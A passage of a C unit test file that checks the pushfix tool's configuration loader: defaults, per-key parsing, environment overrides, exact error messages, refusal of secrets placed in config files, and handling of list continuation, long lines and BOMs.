/*
 * Config: defaults, every key, every layer and their order, the
 * environment, every error and warning message (exact text), the trust
 * rule for .pushfix.ini, dump -> load round trips, and config.ini.example
 * documenting every key with its real default.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "pushfix/buf.h"
#include "pushfix/config.h"
#include "pushfix/err.h"
#include "pushfix/fs.h"
#include "pushfix/util.h"

extern char **environ;

static char tmp[256];

static void clear_pushfix_env(void)
{
	char *names[256];
	size_t n = 0;

	for (char **e = environ; *e && n < 256; e++)
		if (!strncmp(*e, "PUSHFIX_", 8))
			names[n++] = pf_xstrndup(*e, strcspn(*e, "="));
	for (size_t i = 0; i < n; i++) {
		unsetenv(names[i]);
		free(names[i]);
	}
}

static int setup(void **state)
{
	char home[300];

	(void)state;
	snprintf(tmp, sizeof(tmp), "%s/pf-config-XXXXXX",
		 getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp");
	if (!mkdtemp(tmp))
		return -1;
	snprintf(home, sizeof(home), "%s/home", tmp);
	mkdir(home, 0700);
	setenv("HOME", home, 1);
	unsetenv("XDG_CONFIG_HOME");
	clear_pushfix_env();
	pf_error_clear();
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	clear_pushfix_env();
	pf_remove_tree(tmp);
	return 0;
}

/* tmp/<rel>, parents created, content written. Returns the static path. */
static const char *write_file(const char *rel, const char *content)
{
	static char path[4][512];
	static int slot;
	char *p = path[slot++ % 4];
	FILE *f;

	snprintf(p, 512, "%s/%s", tmp, rel);
	{
		char dir[512];

		snprintf(dir, sizeof(dir), "%s", p);
		*strrchr(dir, '/') = '\0';
		assert_int_equal(pf_mkdir_p(dir, 0700), 0);
	}
	f = fopen(p, "wb");
	assert_non_null(f);
	fwrite(content, 1, strlen(content), f);
	fclose(f);
	return p;
}

/* Load `content` as the file tmp/<name>; warnings into *w. */
static int load_text(struct pf_config *cfg, const char *name,
		     const char *content, struct pf_buf *w)
{
	return pf_config_load_file(cfg, write_file(name, content), w);
}

static char *path_of(const char *rel)
{
	static char p[512];

	snprintf(p, sizeof(p), "%s/%s", tmp, rel);
	return p;
}

static void expect_error(const char *content, int code, const char *fmt)
{
	struct pf_config cfg;
	struct pf_buf want = PF_BUF_INIT;
	const char *at = strstr(fmt, "%s");
	int ret;

	/* `fmt` names the file with %s: replace it by the file's path. */
	assert_non_null(at);
	pf_buf_add(&want, fmt, (size_t)(at - fmt));
	pf_buf_addstr(&want, path_of("c.ini"));
	pf_buf_addstr(&want, at + 2);
	pf_config_init(&cfg);
	ret = load_text(&cfg, "c.ini", content, NULL);
	assert_int_equal(ret, code);
	assert_string_equal(pf_error_last(), want.buf);
	pf_buf_release(&want);
	pf_config_release(&cfg);
}

static void test_defaults(void **state)
{
	struct pf_config c;

	(void)state;
	pf_config_init(&c);
	assert_int_equal(c.scan.engine, PF_ENGINE_AUTO);
	assert_string_equal(c.scan.semgrep_config, "p/default");
	assert_string_equal(c.scan.semgrep_bin, "semgrep");
	assert_string_equal(c.scan.command, "");
	assert_string_equal(c.scan.command_files, "");
	assert_int_equal(c.scan.tree, PF_TREE_CHANGED);
	assert_int_equal(c.scan.timeout, 120);
	assert_int_equal(c.scan.filter, PF_FILTER_ADDED);
	assert_int_equal(c.scan.context, 3);
	assert_int_equal(c.scan.max_file_bytes, 1000000);
	assert_string_equal(c.llm.provider, "none");
	assert_string_equal(c.llm.model, "");
	assert_string_equal(c.llm.base_url, "");
	assert_string_equal(c.llm.api_key_env, "");
	assert_string_equal(c.llm.api_key_cmd, "");
	assert_string_equal(c.llm.api_version, "");
	assert_string_equal(c.llm.json_mode, "auto");
	assert_int_equal(c.llm.timeout, 30);
	assert_int_equal(c.llm.budget, 60);
	assert_int_equal(c.llm.max_parallel, 8);
	assert_int_equal(c.llm.context_lines, 10);
	assert_true(c.llm.autofix_min_confidence == 0.6);
	assert_int_equal(c.llm.show_unverified, 1);
	assert_int_equal(c.privacy.redact_paths, PF_REDACT_PATHS_ALL);
	assert_string_equal(c.privacy.redact_words, "");
	assert_string_equal(c.privacy.allow_hosts,
			    "localhost,example.com,example.org,example.net,"
			    "github.com,gitlab.com,bitbucket.org,www.w3.org,"
			    "www.apache.org,www.gnu.org");
	assert_int_equal(c.privacy.log_retention_days, 180);
	assert_int_equal(c.privacy.log_vault, 0);
	assert_int_equal(c.ui.interactive, PF_AUTO);
	assert_int_equal(c.ui.color, PF_AUTO);
	assert_int_equal(c.ui.ignore_writes_nosemgrep, 0);
	assert_int_equal(c.policy.block, PF_BLOCK_NEVER);
	assert_int_equal(c.policy.on_error_block, 0);
	assert_int_equal(c.policy.after_fix_stop, 1);
	assert_int_equal(c.mirror.enabled, 0);
	assert_int_equal(c.mirror.forge, PF_FORGE_AUTO);
	assert_string_equal(c.mirror.api_url, "");
	assert_string_equal(c.mirror.repository, "");
	assert_string_equal(c.mirror.token_env, "");
	assert_string_equal(c.mirror.token_cmd, "");
	assert_string_equal(c.mirror.slack_webhook_env, "");
	assert_string_equal(c.mirror.host_map, "");
	assert_int_equal(c.core.verbose, 0);
	pf_config_release(&c);
	pf_config_release(NULL);
}

static const char default_dump[] =
	"[scan]\n"
	"engine = auto\n"
	"semgrep_config = p/default\n"
	"semgrep_bin = semgrep\n"
	"command =\n"
	"command_files =\n"
	"tree = changed\n"
	"timeout = 120\n"
	"filter = added\n"
	"context = 3\n"
	"max_file_bytes = 1000000\n"
	"prescan = false\n"
	"\n[llm]\n"
	"provider = none\n"
	"model =\n"
	"base_url =\n"
	"api_key_env =\n"
	"api_key_cmd =\n"
	"api_version =\n"
	"json_mode = auto\n"
	"timeout = 30\n"
	"pretriage = false\n"
	"budget = 60\n"
	"max_parallel = 8\n"
	"context_lines = 10\n"
	"autofix_min_confidence = 0.6\n"
	"show_unverified = true\n"
	"max_findings = 20\n"
	"price_in =\n"
	"price_out =\n"
	"\n[privacy]\n"
	"redact_paths = all\n"
	"redact_words =\n"
	"allow_hosts = localhost,example.com,example.org,example.net,"
	"github.com,\n"
	"\tgitlab.com,bitbucket.org,www.w3.org,www.apache.org,www.gnu.org\n"
	"log_retention_days = 180\n"
	"log_vault = false\n"
	"\n[ui]\n"
	"interactive = auto\n"
	"color = auto\n"
	"ignore_writes_nosemgrep = false\n"
	"max_prompts = 30\n"
	"progress = auto\n"
	"\n[policy]\n"
	"block = never\n"
	"on_error = allow\n"
	"after_fix = stop\n"
	"block_secrets = true\n"
	"\n[rules]\n"
	"block =\n"
	"comment =\n"
	"monitor =\n"
	"\n[secrets]\n"
	"allow =\n"
	"allow_paths =\n"
	"\n[mirror]\n"
	"enabled = false\n"
	"forge = auto\n"
	"api_url =\n"
	"repository =\n"
	"token_env =\n"
	"token_cmd =\n"
	"slack_webhook_env =\n"
	"feedback_ignores = false\n"
	"host_map =\n"
	"\n[core]\n"
	"verbose = false\n"
	"max_seconds = 300\n";

static void test_default_dump(void **state)
{
	struct pf_config c;
	struct pf_buf out = PF_BUF_INIT;

	(void)state;
	pf_config_init(&c);
	pf_config_dump(&c, &out);
	assert_string_equal(out.buf, default_dump);
	pf_buf_release(&out);
	pf_config_release(&c);
}

/* Every key set to something other than its default. */
static const char every_key[] =
	"; every key\n"
	"[scan]\n"
	"engine = sarif\n"
	"semgrep_config = p/ci, .semgrep.yml ,\n"
	"semgrep_bin = /opt/semgrep/bin/semgrep\n"
	"command = flawfinder --sarif {files}\n"
	"command_files = *.c, src/*.h ,\n"
	"tree = full\n"
	"timeout = 45\n"
	"filter = context\n"
	"context = 7\n"
	"max_file_bytes = 2m\n"
	"[llm]\n"
	"provider = openai-compatible\n"
	"model = qwen2.5-coder:7b\n"
	"base_url = http://localhost:11434/v1\n"
	"api_key_env = OLLAMA_KEY\n"
	"api_key_cmd = pass show ollama\n"
	"api_version = 2024-10-21\n"
	"json_mode = object\n"
	"timeout = 12\n"
	"budget = 99\n"
	"max_parallel = 3\n"
	"context_lines = 4\n"
	"autofix_min_confidence = high\n"
	"show_unverified = no\n"
	"[privacy]\n"
	"redact_paths = dirs\n"
	"redact_words = northwind, acme\n"
	"allow_hosts = github.com\n"
	"log_retention_days = 0\n"
	"log_vault = on\n"
	"[ui]\n"
	"interactive = never\n"
	"color = always\n"
	"ignore_writes_nosemgrep = 1\n"
	"[policy]\n"
	"block = true-positive\n"
	"on_error = block\n"
	"after_fix = continue\n"
	"[mirror]\n"
	"enabled = yes\n"
	"forge = gitlab\n"
	"api_url = https://git.corp.example/api/v4\n"
	"repository = group/sub/project\n"
	"token_env = CORP_GITLAB_TOKEN\n"
	"token_cmd = pass show gitlab\n"
	"slack_webhook_env = TEAM_SLACK_HOOK\n"
	"host_map = git.corp=gitlab, code.corp=GitHub\n"
	"[core]\n"
	"verbose = true\n";

static void check_every_key(const struct pf_config *c)
{
	assert_int_equal(c->scan.engine, PF_ENGINE_SARIF);
	assert_string_equal(c->scan.semgrep_config, "p/ci,.semgrep.yml");
	assert_string_equal(c->scan.semgrep_bin, "/opt/semgrep/bin/semgrep");
	assert_string_equal(c->scan.command, "flawfinder --sarif {files}");
	assert_string_equal(c->scan.command_files, "*.c,src/*.h");
	assert_int_equal(c->scan.tree, PF_TREE_FULL);
	assert_int_equal(c->scan.timeout, 45);
	assert_int_equal(c->scan.filter, PF_FILTER_CONTEXT);
	assert_int_equal(c->scan.context, 7);
	assert_int_equal(c->scan.max_file_bytes, 2 * 1024 * 1024);
	assert_string_equal(c->llm.provider, "openai-compatible");
	assert_string_equal(c->llm.model, "qwen2.5-coder:7b");
	assert_string_equal(c->llm.base_url, "http://localhost:11434/v1");
	assert_string_equal(c->llm.api_key_env, "OLLAMA_KEY");
	assert_string_equal(c->llm.api_key_cmd, "pass show ollama");
	assert_string_equal(c->llm.api_version, "2024-10-21");
	assert_string_equal(c->llm.json_mode, "object");
	assert_int_equal(c->llm.timeout, 12);
	assert_int_equal(c->llm.budget, 99);
	assert_int_equal(c->llm.max_parallel, 3);
	assert_int_equal(c->llm.context_lines, 4);
	assert_true(c->llm.autofix_min_confidence == 0.85);
	assert_int_equal(c->llm.show_unverified, 0);
	assert_int_equal(c->privacy.redact_paths, PF_REDACT_PATHS_DIRS);
	assert_string_equal(c->privacy.redact_words, "northwind,acme");
	assert_string_equal(c->privacy.allow_hosts, "github.com");
	assert_int_equal(c->privacy.log_retention_days, 0);
	assert_int_equal(c->privacy.log_vault, 1);
	assert_int_equal(c->ui.interactive, PF_NEVER);
	assert_int_equal(c->ui.color, PF_ALWAYS);
	assert_int_equal(c->ui.ignore_writes_nosemgrep, 1);
	assert_int_equal(c->policy.block, PF_BLOCK_TRUE_POSITIVE);
	assert_int_equal(c->policy.on_error_block, 1);
	assert_int_equal(c->policy.after_fix_stop, 0);
	assert_int_equal(c->mirror.enabled, 1);
	assert_int_equal(c->mirror.forge, PF_FORGE_GITLAB);
	assert_string_equal(c->mirror.api_url,
			    "https://git.corp.example/api/v4");
	assert_string_equal(c->mirror.repository, "group/sub/project");
	assert_string_equal(c->mirror.token_env, "CORP_GITLAB_TOKEN");
	assert_string_equal(c->mirror.token_cmd, "pass show gitlab");
	assert_string_equal(c->mirror.slack_webhook_env, "TEAM_SLACK_HOOK");
	assert_string_equal(c->mirror.host_map,
			    "git.corp=gitlab,code.corp=GitHub");
	assert_int_equal(c->core.verbose, 1);
}

static void test_every_key_from_file(void **state)
{
	struct pf_config c;
	struct pf_buf w = PF_BUF_INIT;

	(void)state;
	pf_config_init(&c);
	assert_int_equal(load_text(&c, "every.ini", every_key, &w), 0);
	assert_string_equal(w.buf, "");
	check_every_key(&c);
	pf_buf_release(&w);
	pf_config_release(&c);
}

/* Every key through PUSHFIX_<SECTION>_<KEY>. */
static void test_every_key_from_env(void **state)
{
	struct pf_config c;
	struct pf_buf w = PF_BUF_INIT;
	const char *section = "";
	char *text = pf_xstrdup(every_key), *save = NULL;

	(void)state;
	for (char *line = strtok_r(text, "\n", &save); line;
	     line = strtok_r(NULL, "\n", &save)) {
		char var[128], *eq;

		if (line[0] == ';')
			continue;
		if (line[0] == '[') {
			line[strlen(line) - 1] = '\0';
			section = line + 1;
			continue;
		}
		eq = strstr(line, " = ");
		assert_non_null(eq);
		*eq = '\0';
		snprintf(var, sizeof(var), "PUSHFIX_%s_%s", section, line);
		for (char *p = var; *p; p++)
			*p = (char)(*p >= 'a' && *p <= 'z' ? *p - 32 : *p);
		setenv(var, eq + 3, 1);
	}
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, NULL, NULL, &w), 0);
	assert_string_equal(w.buf, "");
	check_every_key(&c);
	free(text);
	pf_buf_release(&w);
	pf_config_release(&c);
}

static void test_booleans(void **state)
{
	static const char *const yes[] = { "true", "TRUE", "yes", "On", "1" };
	static const char *const no[] = { "false", "No", "off", "OFF", "0" };
	struct pf_config c;
	char text[64];

	(void)state;
	pf_config_init(&c);
	for (size_t i = 0; i < PF_ARRAY_SIZE(yes); i++) {
		c.core.verbose = 0;
		snprintf(text, sizeof(text), "[core]\nverbose = %s\n", yes[i]);
		assert_int_equal(load_text(&c, "b.ini", text, NULL), 0);
		assert_int_equal(c.core.verbose, 1);
	}
	for (size_t i = 0; i < PF_ARRAY_SIZE(no); i++) {
		c.core.verbose = 1;
		snprintf(text, sizeof(text), "[core]\nverbose = %s\n", no[i]);
		assert_int_equal(load_text(&c, "b.ini", text, NULL), 0);
		assert_int_equal(c.core.verbose, 0);
	}
	pf_config_release(&c);
	expect_error("[core]\nverbose = maybe\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [core] verbose: unknown value "
		     "'maybe' (expected true or false)");
	expect_error("[core]\nverbose =\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [core] verbose: unknown value "
		     "'' (expected true or false)");
}

static void test_enum_errors(void **state)
{
	(void)state;
	expect_error("; comment\n\n[scan]\n  # another\nfilter = ad\n",
		     PF_EINVALID,
		     "cannot parse '%s' line 5: [scan] filter: unknown value "
		     "'ad' (expected added, context, file or all)");
	expect_error("[scan]\nengine = codeql\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [scan] engine: unknown value "
		     "'codeql' (expected auto, semgrep or sarif)");
	expect_error("[privacy]\nredact_paths = some\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [privacy] redact_paths: "
		     "unknown value 'some' (expected all, dirs or none)");
	expect_error("[ui]\ncolor = sometimes\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [ui] color: unknown value "
		     "'sometimes' (expected auto, always or never)");
	expect_error("[ui]\ninteractive = yes\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [ui] interactive: unknown "
		     "value 'yes' (expected auto, always or never)");
	expect_error("[policy]\nblock = warning\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [policy] block: unknown value "
		     "'warning' (expected never, true-positive or error)");
	expect_error("[policy]\non_error = deny\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [policy] on_error: unknown "
		     "value 'deny' (expected allow or block)");
	expect_error("[policy]\nafter_fix = go\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [policy] after_fix: unknown "
		     "value 'go' (expected stop or continue)");
	expect_error("[mirror]\nforge = gitea\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [mirror] forge: unknown value "
		     "'gitea' (expected auto, github or gitlab)");
	expect_error("[llm]\nprovider = gemini\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [llm] provider: unknown value "
		     "'gemini' (expected openai, azure, anthropic, "
		     "openai-compatible or none)");
	expect_error("[llm]\njson_mode = yaml\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [llm] json_mode: unknown value "
		     "'yaml' (expected auto, schema, object or none)");
}

/* '-' and '_' alike, any case; the canonical name is stored. */
static void test_enum_spellings(void **state)
{
	struct pf_config c;

	(void)state;
	pf_config_init(&c);
	assert_int_equal(load_text(&c, "e.ini",
				   "[Policy]\nBlock = True_Positive\n"
				   "[LLM]\nProvider = OpenAI_Compatible\n"
				   "[scan]\nengine = Semgrep , SARIF\n",
				   NULL),
			 0);
	assert_int_equal(c.policy.block, PF_BLOCK_TRUE_POSITIVE);
	/* A list of scanners. */
	assert_int_equal(c.scan.engine, PF_ENGINE_BOTH);
	assert_string_equal(c.llm.provider, "openai-compatible");
	pf_config_release(&c);
}

static void test_number_errors(void **state)
{
	struct pf_config c;

	(void)state;
	expect_error("[scan]\ntimeout = abc\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [scan] timeout: 'abc' is not "
		     "a whole number (expected 1 to 86400)");
	expect_error("[scan]\ntimeout = 0\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [scan] timeout: 0 is out of "
		     "range (expected 1 to 86400)");
	expect_error("[scan]\ntimeout = 86401\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [scan] timeout: 86401 is out "
		     "of range (expected 1 to 86400)");
	expect_error("[scan]\ncontext = -1\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [scan] context: '-1' is not "
		     "a whole number (expected 0 to 1000)");
	expect_error("[llm]\nmax_parallel = 65\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [llm] max_parallel: 65 is out "
		     "of range (expected 1 to 64)");
	expect_error("[llm]\ntimeout = 3.5\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [llm] timeout: '3.5' is not a "
		     "whole number (expected 1 to 3600)");
	expect_error("[scan]\nmax_file_bytes = 2g\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [scan] max_file_bytes: 2g is "
		     "out of range (expected 1 to 1073741824)");
	expect_error("[scan]\nmax_file_bytes = lots\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [scan] max_file_bytes: 'lots' "
		     "is not a whole number (expected 1 to 1073741824, or with "
		     "k, m, g)");
	expect_error("[privacy]\nlog_retention_days = 36501\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [privacy] log_retention_days: "
		     "36501 is out of range (expected 0 to 36500)");
	pf_config_init(&c);
	assert_int_equal(load_text(&c, "n.ini",
				   "[scan]\nmax_file_bytes = 512k\ntimeout = "
				   "86400\ncontext = 0\n",
				   NULL),
			 0);
	assert_int_equal(c.scan.max_file_bytes, 512 * 1024);
	assert_int_equal(c.scan.timeout, 86400);
	assert_int_equal(c.scan.context, 0);
	assert_int_equal(load_text(&c, "n.ini",
				   "[scan]\nmax_file_bytes = 1G\n", NULL),
			 0);
	assert_int_equal(c.scan.max_file_bytes, 1024UL * 1024 * 1024);
	pf_config_release(&c);
}

static void test_confidence(void **state)
{
	static const struct {
		const char *v;
		double want;
	} ok[] = { { "low", 0.3 },   { "MEDIUM", 0.6 }, { "high", 0.85 },
		   { "0", 0 },	     { "1", 1 },	{ "0.75", 0.75 },
		   { ".5", 0.5 },    { "1.0", 1 } };
	struct pf_config c;
	char text[80];

	(void)state;
	pf_config_init(&c);
	for (size_t i = 0; i < PF_ARRAY_SIZE(ok); i++) {
		snprintf(text, sizeof(text),
			 "[llm]\nautofix_min_confidence = %s\n", ok[i].v);
		assert_int_equal(load_text(&c, "f.ini", text, NULL), 0);
		assert_true(c.llm.autofix_min_confidence == ok[i].want);
	}
	pf_config_release(&c);
	expect_error("[llm]\nautofix_min_confidence = 1.5\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [llm] autofix_min_confidence: "
		     "1.5 is out of range (expected low, medium, high or a "
		     "number from 0 to 1)");
	expect_error("[llm]\nautofix_min_confidence = -0.1\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [llm] autofix_min_confidence: "
		     "unknown value '-0.1' (expected low, medium, high or a "
		     "number from 0 to 1)");
	expect_error("[llm]\nautofix_min_confidence = nan\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [llm] autofix_min_confidence: "
		     "unknown value 'nan' (expected low, medium, high or a "
		     "number from 0 to 1)");
	expect_error("[llm]\nautofix_min_confidence = 1e-1\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [llm] autofix_min_confidence: "
		     "unknown value '1e-1' (expected low, medium, high or a "
		     "number from 0 to 1)");
}

static void test_strings_validated(void **state)
{
	struct pf_config c;

	(void)state;
	expect_error("[llm]\nbase_url = ftp://models.example/v1\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [llm] base_url: "
		     "'ftp://models.example/v1' is not an http:// or https:// "
		     "URL");
	expect_error("[mirror]\napi_url = https://\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [mirror] api_url: 'https://' "
		     "is not an http:// or https:// URL");
	/* The key itself pasted where its variable's name goes: refused,
	 * and never echoed. */
	expect_error("[llm]\napi_key_env = sk-proj-abc123XYZ\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [llm] api_key_env: expected the "
		     "name of an environment variable (letters, digits, _), "
		     "not its value");
	expect_error("[mirror]\ntoken_env = ghp_0123456789abcdefghijklmnopqrstuv"
		     "wxyz+/\n",
		     PF_EINVALID,
		     "cannot parse '%s' line 2: [mirror] token_env: expected "
		     "the name of an environment variable (letters, digits, _), "
		     "not its value");
	expect_error("[mirror]\nhost_map = git.corp=gitea\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [mirror] host_map: "
		     "'git.corp=gitea' is not host=github or host=gitlab");
	expect_error("[mirror]\nhost_map = git.corp\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [mirror] host_map: 'git.corp' "
		     "is not host=github or host=gitlab");
	pf_config_init(&c);
	assert_int_equal(load_text(&c, "s.ini",
				   "[llm]\nbase_url = HTTPS://api.example/v1\n"
				   "model =\napi_key_env = _X9\n",
				   NULL),
			 0);
	assert_string_equal(c.llm.base_url, "HTTPS://api.example/v1");
	assert_string_equal(c.llm.model, "");
	assert_string_equal(c.llm.api_key_env, "_X9");
	pf_config_release(&c);
}

static void test_unknown_keys_warn(void **state)
{
	struct pf_config c;
	struct pf_buf w = PF_BUF_INIT;
	const char *f;
	char want[2048];

	(void)state;
	pf_config_init(&c);
	f = write_file("u.ini", "stray = 1\n"
				"[scan]\n"
				"timout = 5\n"
				"timeout = 9\n"
				"[fancy]\n"
				"a = 1\n"
				"b = 2\n"
				"[scan]\n"
				"[fancy]\n"
				"c = 3\n"
				"[core]\n"
				"verbose = yes\n");
	assert_int_equal(pf_config_load_file(&c, f, &w), 0);
	snprintf(want, sizeof(want),
		 "warning: '%s' line 1: key 'stray' is outside any [section]\n"
		 "warning: '%s' line 3: unknown key 'timout' in [scan] (did "
		 "you mean 'timeout'?)\n"
		 "warning: '%s' line 6: unknown section [fancy]\n"
		 "warning: '%s' line 10: unknown section [fancy]\n",
		 f, f, f, f);
	assert_string_equal(w.buf, want);
	/* Loading went on past the warnings. */
	assert_int_equal(c.scan.timeout, 9);
	assert_int_equal(c.core.verbose, 1);
	/* NULL warnings is allowed. */
	assert_int_equal(pf_config_load_file(&c, f, NULL), 0);
	pf_buf_release(&w);
	pf_config_release(&c);
}

static void test_secrets_refused(void **state)
{
	struct pf_config c;
	struct pf_buf w = PF_BUF_INIT;

	(void)state;
	expect_error("[llm]\nprovider = openai\napi_key = sk-proj-SECRET42\n",
		     PF_EINVALID,
		     "cannot parse '%s' line 3: [llm] api_key: secrets do not "
		     "belong in configuration files; put the name of the "
		     "environment variable that holds it in api_key_env, or a "
		     "command that prints it in api_key_cmd");
	expect_error("[mirror]\ntoken = ghp_SECRET42\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [mirror] token: secrets do not "
		     "belong in configuration files; put the name of the "
		     "environment variable that holds it in token_env, or a "
		     "command that prints it in token_cmd");
	expect_error("[mirror]\nslack_webhook = https://hooks.slack.com/x\n",
		     PF_EINVALID,
		     "cannot parse '%s' line 2: [mirror] slack_webhook: secrets "
		     "do not belong in configuration files; put the name of "
		     "the environment variable that holds it in "
		     "slack_webhook_env");
	expect_error("[database]\npassword = hunter2\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [database] password: secrets do "
		     "not belong in configuration files; keep it in an "
		     "environment variable and name that variable in [llm] "
		     "api_key_env or [mirror] token_env");
	expect_error("[llm]\nOpenAI-Secret = xyz\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [llm] OpenAI-Secret: secrets do "
		     "not belong in configuration files; put the name of the "
		     "environment variable that holds it in api_key_env, or a "
		     "command that prints it in api_key_cmd");
	assert_null(strstr(pf_error_last(), "xyz"));
	/* Without a value there is no secret: just an unknown key. */
	pf_config_init(&c);
	assert_int_equal(load_text(&c, "k.ini", "[llm]\napi_key =\n", &w), 0);
	assert_non_null(strstr(w.buf, "unknown key 'api_key' in [llm]"));
	/* Our own *_env / *_cmd keys are not secrets. */
	pf_buf_reset(&w);
	assert_int_equal(load_text(&c, "k.ini",
				   "[llm]\napi_key_env = K\n[mirror]\n"
				   "token_cmd = pass x\n",
				   &w),
			 0);
	assert_string_equal(w.buf, "");
	pf_buf_release(&w);
	pf_config_release(&c);
}

static void test_lists_and_indentation(void **state)
{
	struct pf_config c;
	struct pf_buf w = PF_BUF_INIT;

	(void)state;
	pf_config_init(&c);
	assert_int_equal(
		load_text(&c, "l.ini",
			  "[privacy]\n"
			  "\tallow_hosts = github.com,\n"
			  "\t\tgitlab.com, example.com\n"
			  "  ; a comment inside the list\n"
			  "\t\tlocalhost\n"
			  "\tredact_words = northwind\n"
			  "[scan]\n"
			  "    semgrep_config = p/ci\n"
			  "        https://rules.example/r.yml\n"
			  "    timeout = 30\n"
			  "[mirror]\n"
			  "host_map = a.corp=github\n"
			  "    b.corp=gitlab\n",
			  &w),
		0);
	assert_string_equal(w.buf, "");
	assert_string_equal(c.privacy.allow_hosts,
			    "github.com,gitlab.com,example.com,localhost");
	assert_string_equal(c.privacy.redact_words, "northwind");
	assert_string_equal(c.scan.semgrep_config,
			    "p/ci,https://rules.example/r.yml");
	assert_int_equal(c.scan.timeout, 30);
	assert_string_equal(c.mirror.host_map, "a.corp=github,b.corp=gitlab");
	pf_buf_release(&w);
	pf_config_release(&c);
	/* A single value cannot continue. */
	expect_error("[scan]\ncommand = flawfinder\n    --sarif {files}\n",
		     PF_EINVALID,
		     "cannot parse '%s' line 3: [scan] command: only a list "
		     "may continue on an indented line");
	/* A blank line ends a list: the indented line is then no key. */
	expect_error("[privacy]\nallow_hosts = a.com\n\n  b.com\n", PF_EINVALID,
		     "cannot parse '%s' line 4: expected 'key = value', "
		     "'[section]' or a comment");
}

static void test_syntax_errors(void **state)
{
	(void)state;
	expect_error("[scan]\ntimeout = 5\nthis is not ini\n", PF_EINVALID,
		     "cannot parse '%s' line 3: expected 'key = value', "
		     "'[section]' or a comment");
	expect_error("[scan\ntimeout = 5\n", PF_EINVALID,
		     "cannot parse '%s' line 1: expected 'key = value', "
		     "'[section]' or a comment");
	/* The first problem is the one reported. */
	expect_error("[scan]\nbroken\nfilter = ad\n", PF_EINVALID,
		     "cannot parse '%s' line 2: expected 'key = value', "
		     "'[section]' or a comment");
	expect_error("[scan]\nfilter = ad\nbroken\n", PF_EINVALID,
		     "cannot parse '%s' line 2: [scan] filter: unknown value "
		     "'ad' (expected added, context, file or all)");
}

static void test_long_line_and_nul(void **state)
{
	struct pf_config c;
	char text[1200], want[1024];
	const char *f;
	int ret;

	(void)state;
	strcpy(text, "[privacy]\nredact_words = ");
	for (int i = 0; i < 100; i++)
		strcat(text, "word,");
	strcat(text, "\n");
	pf_config_init(&c);
	ret = load_text(&c, "long.ini", text, NULL);
	assert_int_equal(ret, PF_EINVALID);
	snprintf(want, sizeof(want), "cannot parse '%s' line 2: line longer "
		 "than ", path_of("long.ini"));
	assert_true(pf_starts_with(pf_error_last(), want));
	assert_non_null(strstr(pf_error_last(),
			       " bytes (a long list can continue on indented "
			       "lines)"));
	/* Debian's inih reads 200-byte lines: 198 bytes + newline + NUL.
	 * The longest line loads whole; one byte more is refused, not cut. */
	strcpy(text, "[privacy]\nredact_words = ");
	memset(text + strlen(text), 'w', 198 - strlen("redact_words = "));
	strcpy(text + strlen("[privacy]\n") + 198, "\n");
	assert_int_equal(load_text(&c, "long.ini", text, NULL), 0);
	assert_int_equal(strlen(c.privacy.redact_words), 183);
	strcpy(text + strlen("[privacy]\n") + 198, "w\n");
	assert_int_equal(load_text(&c, "long.ini", text, NULL), PF_EINVALID);
	snprintf(want, sizeof(want), "cannot parse '%s' line 2: line longer "
		 "than 198 bytes (a long list can continue on indented lines)",
		 path_of("long.ini"));
	assert_string_equal(pf_error_last(), want);
	/* The same list over indented lines loads whole. */
	strcpy(text, "[privacy]\nredact_words = w0\n");
	for (int i = 1; i < 100; i++)
		sprintf(text + strlen(text), "  w%d,\n", i);
	assert_int_equal(load_text(&c, "long.ini", text, NULL), 0);
	assert_true(pf_starts_with(c.privacy.redact_words, "w0,w1,w2,"));
	assert_true(pf_ends_with(c.privacy.redact_words, ",w98,w99"));
	pf_config_release(&c);

	f = write_file("nul.ini", "");
	{
		FILE *fp = fopen(f, "wb");

		fwrite("[core]\nverbose = t\0rue\n", 1, 23, fp);
		fclose(fp);
	}
	pf_config_init(&c);
	assert_int_equal(pf_config_load_file(&c, f, NULL), PF_EINVALID);
	snprintf(want, sizeof(want),
		 "cannot parse '%s' line 2: NUL byte (not a text file?)", f);
	assert_string_equal(pf_error_last(), want);
	pf_config_release(&c);
}

static void test_crlf_bom_quotes_comments(void **state)
{
	struct pf_config c;

	(void)state;
	expect_error("\xEF\xBB\xBF[scan]\r\n; c\r\nfilter = ad\r\n",
		     PF_EINVALID,
		     "cannot parse '%s' line 3: [scan] filter: unknown value "
		     "'ad' (expected added, context, file or all)");
	pf_config_init(&c);
	assert_int_equal(
		load_text(&c, "q.ini",
			  "\xEF\xBB\xBF[scan]\r\n"
			  "command = \"flawfinder --sarif {files}\"\r\n"
